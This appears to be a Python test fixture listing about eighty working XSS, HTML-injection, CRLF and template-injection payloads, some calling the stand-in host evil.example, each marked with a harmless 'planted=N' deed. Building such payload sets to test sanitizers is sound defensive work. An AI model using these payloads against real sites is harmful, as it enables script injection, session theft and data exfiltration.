"""Eighty ways to make a page do something with words that a person wrote. `@` stands for the deed: a script sets `planted`.

One of each kind in OWASP's cheat sheet of filter evasion and PortSwigger's of events, and what Jinja, htmx and Alpine would do.
"""

_KINDS = {
    "script": (
        "<script>@</script>",
        "</script><script>@</script>",
        "<ScRiPt/x>@</sCrIpT>",
        "<sc<script>ript>@</sc</script>ript>",
        "<script src=//evil.example/@></script>",
        "<script type=module>@</script>",
        "<svg><script>@</script></svg>",
        "<script>fetch('//evil.example/?@')</script>",
    ),
    "out of an attribute": (
        '"><script>@</script>',
        "'><img src=x onerror=@>",
        '" autofocus onfocus=@ x="',
        "' onmouseover=@ '",
        "` onmouseover=@ `",
        "x onload=@",
        '"/><svg onload=@>',
    ),
    "out of what surrounds": (
        "</textarea><script>@</script>",
        "</title><script>@</script>",
        "</style><script>@</script>",
        "</option></select><img src=x onerror=@>",
        "--><script>@</script>",
        "]]><script>@</script>",
        "</p></div></main><script>@</script>",
    ),
    "event": (
        "<img src=x onerror=@>",
        "<body onload=@>",
        "<details open ontoggle=@>x</details>",
        "<input autofocus onfocus=@>",
        "<video><source onerror=@></video>",
        "<marquee onstart=@>x</marquee>",
        "<a href=# onclick=@>klik</a>",
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=@>x</p>",
    ),
    "svg and math": (
        "<svg onload=@>",
        "<svg><animate onbegin=@ attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:@><text y=20>klik</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.@</script>'></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mtext></math>",
    ),
    "frame and address": (
        "<iframe srcdoc='<script>parent.@</script>'></iframe>",
        "<iframe src=javascript:@></iframe>",
        "<a href=javascript:@>klik</a>",
        "<a href='java\tscript:@'>klik</a>",
        "<a href=data:text/html,<script>@</script>>klik</a>",
        "<object data=javascript:@></object>",
        "<embed src=//evil.example/@>",
        "javascript:@",
        "data:text/html;base64,PHNjcmlwdD5wbGFudGVkPTE8L3NjcmlwdD4=@",
        "https://evil.example/@",
    ),
    "page": (
        "<base href=//evil.example/@>",
        "<meta http-equiv=refresh content='0;url=//evil.example/@'>",
        "<link rel=stylesheet href=//evil.example/@>",
        "<form action=//evil.example/@><button>Masuk</button></form>",
        "<button form=x formaction=//evil.example/@>Simpan</button>",
        "<input name=_csrf value=@>",
        "<img src=//evil.example/@>",
        "<div id=main><h1>@</h1></div>",
    ),
    "style": (
        "<style>body{background:url(//evil.example/@)}</style>",
        "<p style='position:fixed;inset:0;background:url(//evil.example/@)'>x</p>",
    ),
    "template": (
        "{{ 7*7 }}@",
        "{{ ''.__class__.__mro__ }}@",
        "{% for x in config %}{{ x }}{% endfor %}@",
        "${@}#{@}<%= @ %>",
        "<div x-data x-init=@>x</div>",
        "<div x-html='@'>x</div>",
        "<b hx-get=//evil.example/@ hx-trigger=load>x</b>",
        "<b hx-on:load=@ hx-trigger='load[@]' hx-get=/>x</b>",
        "{n} {region} {0.__class__} %(x)s @",
    ),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=@>'>",
        "<listing>&lt;img src=x onerror=@&gt;</listing>",
        "<x title='&lt;/x&gt;&lt;img src=x onerror=@&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>",
    ),
    "characters": (
        "+ADw-script+AD4-@+ADw-/script+AD4-",
        "\u00bcscript\u00be@\u00bc/script\u00be",
        "\uff1cscript\uff1e@\uff1c/script\uff1e",
        "&lt;script&gt;@&lt;/script&gt;",
        "&#60;script&#62;@&#60;/script&#62;",
        "%3Cscript%3E@%3C/script%3E",
        "\\x3cscript\\x3e@\\x3c/script\\x3e",
        "\u202e@ nial gnay\u202c \u2066<script>@</script>\u2069",
        "baris\r\nSet-Cookie: planted=1\r\n\r\n<script>@</script>",
        "<\u200bscript>@</\u200bscript>",
    ),
    "many at once": (
        (
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@ )//%0D%0A%0d%0a"
            "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@//>"
        ),
        '\'">><marquee><img src=x onerror=@></marquee>"></plaintext\\></|\\><plaintext/onmouseover=@><script>@</script>',
    ),
}
PAYLOADS = tuple(text for texts in _KINDS.values() for text in texts)


def planted(number: int) -> str:
    """Return a payload whose deed tells its number: numbers begin again at the first payload when there are no more."""
    return PAYLOADS[number % len(PAYLOADS)].replace("@", f"planted={number}")
